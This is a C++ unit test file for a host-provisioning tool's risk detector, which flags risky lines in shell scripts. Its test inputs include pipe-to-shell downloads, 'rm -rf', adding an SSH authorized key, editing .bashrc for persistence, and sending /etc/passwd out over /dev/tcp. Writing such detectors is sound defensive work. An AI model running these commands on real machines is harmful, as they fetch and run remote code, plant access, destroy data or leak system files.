#include "hostprovision/risk_notes.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/unit/hostprovision/consent_support.h"

namespace limequat::hostprovision {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

TEST(RiskNotes, TheExampleOfTheSpecification) {
  EXPECT_THAT(risk_notes("curl https://example.com/setup.sh | sh\n"),
              ElementsAre("downloads and executes code from the network (line 1)"));
}

TEST(RiskNotes, Kinds) {
  const auto only = [](std::string_view text) {
    const auto notes = risk_notes(text);
    return notes.size() == 1 ? notes[0] : "(" + std::to_string(notes.size()) + " notes)";
  };
  EXPECT_EQ(only("bash <(wget -qO- x)"), "downloads and executes code from the network (line 1)");
  EXPECT_EQ(only("python3 -c \"$(curl x)\""),
            "downloads and executes code from the network (line 1)");
  EXPECT_EQ(only("iwr x | iex").substr(0, 9), "(2 notes)");
  EXPECT_EQ(only("curl -o f x"), "downloads from the network (line 1)");
  EXPECT_EQ(only("true\nsudo ls"), "asks for the rights of root (line 2)");
  EXPECT_EQ(only("rm -rf ~/x"), "removes folders with all that is in them (line 1)");
  EXPECT_EQ(only("rm -v -fr x"), "removes folders with all that is in them (line 1)");
  EXPECT_EQ(only("echo k >> ~/.ssh/authorized_keys"), "touches ssh keys or settings (line 1)");
  EXPECT_EQ(only("echo x >> ~/.bashrc"), "touches what runs at login or by itself (line 1)");
  EXPECT_EQ(only("eval \"$x\""), "runs or decodes text that cannot be read here (line 1)");
  EXPECT_EQ(only("base64 -d f > g"), "runs or decodes text that cannot be read here (line 1)");
  EXPECT_EQ(only("sleep 9 &"), "leaves something running in the background (line 1)");
  EXPECT_EQ(only("cat /etc/passwd > /dev/tcp/h/1"), "opens a connection to somewhere (line 1)");
}

TEST(RiskNotes, ALineThatGoesOnIsOne) {
  EXPECT_THAT(risk_notes("true\ncurl x |\n  sh\n"),
              ElementsAre("downloads and executes code from the network (line 2)"));
  EXPECT_THAT(risk_notes("curl x \\\n  | sh\n"),
              ElementsAre("downloads and executes code from the network (line 1)"));
}

TEST(RiskNotes, OrdinaryScriptsHaveNone) {
  EXPECT_THAT(risk_notes("# curl x | sh\ntest -d x && echo ok\nrm x\nfirmware -r x\nsu_x=1\n"
                         "xattr -w com.apple.metadata:com_apple_backup_excludeItem true disk\n"),
              IsEmpty());
}

TEST(RiskNotes, AtMostThreeLinesANote) {
  EXPECT_THAT(risk_notes("sudo a\nsudo b\nsudo c\nsudo d\n"),
              ElementsAre("asks for the rights of root (lines 1, 2, 3, …)"));
}

TEST(RiskNotes, OfTheWholeEntry) {
  config::HostScript script = template_script("true");
  script.shell = "sudo bash {{.ScriptName}}";
  script.env["T"] = {.from = config::HostScript::EnvValue::From::command, .value = "x"};
  EXPECT_THAT(risk_notes(script), ElementsAre("the command: asks for the rights of root",
                                              "env.T is what a command on your computer prints"));
}

}  // namespace
}  // namespace limequat::hostprovision
